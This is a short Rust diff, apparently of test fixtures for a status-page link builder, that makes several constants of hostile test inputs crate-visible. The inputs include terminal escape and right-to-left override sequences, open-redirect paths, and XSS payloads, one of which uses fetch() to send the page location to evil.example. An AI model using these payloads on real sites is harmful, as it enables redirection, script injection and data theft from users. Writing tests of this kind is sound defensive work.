@@ -32,7 +32,7 @@ const ACTS: &str = "x\u{1b}[2J\u{1b}]0;title\u{7}\r\nhealth     ok\u{8}\u{202e}\
 const FORGED: &str = "health     ok";
 
 /// Texts that lead a browser elsewhere, or make it run a script in a page of the user's computer.
-const PATHS: [&str; 5] = [
+pub(crate) const PATHS: [&str; 5] = [
     "@evil.example/status/enter/0123456789abcdef0123456789abcdef0123456789a",
     ".evil.example/",
     "/status/enter/\"><script>fetch('//evil.example/'+document.location)</script>",
@@ -41,12 +41,12 @@ const PATHS: [&str; 5] = [
 ];
 
 /// Links that a browser may follow, at the dialled host: to the status page, and one that does something there.
-const TICKET: &str = "0123456789abcdefABCDEF_-0123456789abcdefABC";
-const ENTERS: &str = "/status/enter/";
+pub(crate) const TICKET: &str = "0123456789abcdefABCDEF_-0123456789abcdefABC";
+pub(crate) const ENTERS: &str = "/status/enter/";
 const ACTS_BY_LINK: &str = "/status/act/";
 
 /// Names that lead a browser elsewhere, or make it run a script, if they become the host of a link.
-const NAMES: [&str; 8] = [
+pub(crate) const NAMES: [&str; 8] = [
     "evil.example",
     "evil.example/\"><script>alert(1)</script>",
     "evil.example/x?",
